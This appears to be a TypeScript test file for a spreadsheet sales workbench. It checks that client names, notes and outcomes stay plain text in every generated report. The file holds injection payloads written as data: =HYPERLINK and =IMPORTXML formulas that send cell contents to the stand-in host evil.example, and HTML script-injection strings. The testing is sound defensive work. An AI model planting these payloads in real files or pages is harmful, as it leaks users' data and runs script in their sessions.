import type { FileCell, TabData } from "../../workbench/types.ts";
import { formulasOf } from "./formulas-of.ts";
import { cellsOf, team } from "./installed-team.ts";

const TABS = ["Deals", "Clients", "Orders", "Calls"] as const;

/** Texts that would be something else if a program wrote them as they are. */
const hostile = (what: string) => [
  `=HYPERLINK("https://evil.example/?"&A1,"${what}")`,
  `=IMPORTXML("https://evil.example","//${what}")`,
  `+evil ${what}`,
  `-2+3 evil ${what}`,
  `@evil ${what}`,
  `'evil ${what}`,
  `<img src=x onerror=evil("${what}")>`,
  `</script><script>evil("${what}")</script>`,
  `evil ${what} \ud83d`,
];
/** Codes of goods that look like numbers and days. */
const CODES = ["00123", "1E5", "1-2"] as const;
const [evil, deals, managers, results] = ["client", "deal", "manager", "result"].map(hostile) as [
  string[],
  string[],
  string[],
  string[],
];
const clients = [CODES[0], ...evil, CODES[1], CODES[2]];
/** Those who buy are the farmers'; the others have only deals. */
const buyers = clients.slice(4);
const LONG = `evil ${"long ".repeat(9_000)}`;

const at = (list: readonly string[], i: number): FileCell => ({ text: list[i % list.length]! });
const rows = (count: number, row: (i: number) => FileCell[]) => Array.from({ length: count }, (_, i) => row(i));
const day = (n: number): FileCell => ({ date: new Date(Date.UTC(2025, 11, 1 + (n % 119))).toISOString().slice(0, 10) });

/** A deal without a name goes by its goods. */
const content: readonly TabData[] = [
  {
    name: TABS[0],
    rows: [
      ["Deal", "Client", "Stage", "Amount", "Created", "Closed", "Manager", "Product"],
      ...rows(24, (i) => [
        ...[i % 2 === 0 ? at(deals, i / 2) : "", at(clients, i), ["New", "Offer", "Contacted"][i % 3]!, 100 * (i + 1)],
        ...[day(i * 5), "", at(managers, i), at(CODES, i)],
      ]),
    ],
  },
  {
    name: TABS[1],
    rows: [
      ["Client", "Segment", "Potential", "Interest", "Manager", "Notes"],
      ...clients.map((client, i) => [
        ...[{ text: client }, "VIP", 9000 - 700 * i, (i % 4) + 1, at(managers, i)],
        { text: i === 0 ? LONG : `=evil("note ${i}")` },
      ]),
    ],
  },
  {
    name: TABS[2],
    rows: [
      ["Client", "Date", "Amount", "Product", "Manager"],
      ...rows(36, (i) => [at(buyers, i), day(i * 3), 50 * ((i % 7) + 1), at(CODES, i), at(managers, i)]),
    ],
  },
  {
    name: TABS[3],
    rows: [
      ["Date", "Manager", "Type", "Client", "Initiated by", "Result"],
      ...rows(18, (i) => [day(90 + i), at(managers, i), "Call", at(clients, i), "We", at(results, i)]),
    ],
  },
];

/** Halves of a sign are no text that a script can write (fact B17). */
const whole = (text: unknown) => (typeof text === "string" ? text.replace(/\ud83d/g, "\ufffd") : text);

test("Names, notes and codes of goods stay texts in every tab and every answer, whatever they look like", async () => {
  const opened = team(content);
  const { ask, build, workbench, book } = opened;
  const before = cellsOf(book, TABS);
  for (const report of ["segments", "hunters", "farmers", "monitor", "base"] as const) await build(report);
  await ask("keepStages");
  const { tasks } = await ask("today");
  const mine = tasks.find(({ client, manager }) => client === CODES[0] && manager === managers[0])!;
  await ask("finish", mine.id, { done: true, outcome: '=evil("outcome")', lostReason: "", note: '-evil("note")' });
  await ask("handOver", managers[0]!, managers[1]!);
  await build("hunters");
  await build("farmers");
  expect(await ask("leaving", managers[3]!)).toContain(managers[3]);
  for (const item of ["menuDigest", "menuPay"]) expect((await workbench.run(item)).error).toBeNull();
  const { cell } = (await ask("matrix", null, null))!.chosen!;
  const { chosen } = (await ask("matrix", cell, null))!;
  expect(chosen!.clients.length).toBeGreaterThan(0);
  expect(chosen!.clients.filter(({ name }) => !clients.map(whole).includes(name))).toEqual([]);
  const story = await ask("client", (await ask("today")).tasks.find(({ client }) => client === evil[0])!.id);
  expect(story).toMatchObject({
    notes: ['=evil("note 1")'],
    contacts: expect.arrayContaining([expect.stringContaining("@evil result")]),
  });

  expect(cellsOf(book, TABS)).toEqual(before);
  const ours = book.tabs.list().filter(({ name }) => !(TABS as readonly string[]).includes(name));
  const read = new Map(ours.map(({ name }) => [name, formulasOf(opened, name)]));
  for (const [name, { hostile, errors, values }] of read)
    expect([name, hostile, errors, [123, 100_000].filter((code) => values.includes(code))]).toEqual([name, [], [], []]);
  const unread = (tab: string, texts: readonly unknown[]) => {
    const values = new Set(read.get(tab)!.values.map(whole));
    return texts.map(whole).filter((text) => !values.has(text as string));
  };
  const unwritten = {
    Hunters: unread("Hunters", clients.slice(0, 4)),
    Farmers: unread("Farmers", buyers),
    Monitor: unread("Monitor", managers),
    "Client base": unread("Client base", buyers.slice(0, 5)),
    "Stage history": unread("Stage history", managers),
    Archive: unread("Archive", [CODES[0], '=evil("outcome")', '-evil("note")', managers[0]]),
    "Handover sheet": unread("Handover sheet", [evil[2]]),
    "Tasks today": unread("Tasks today", [CODES[1], CODES[2]]),
    "Pay by action": unread("Pay by action", managers),
    Segments: unread("Segments", clients),
  };
  expect(unwritten).toEqual(Object.fromEntries(Object.keys(unwritten).map((tab) => [tab, []])));
});
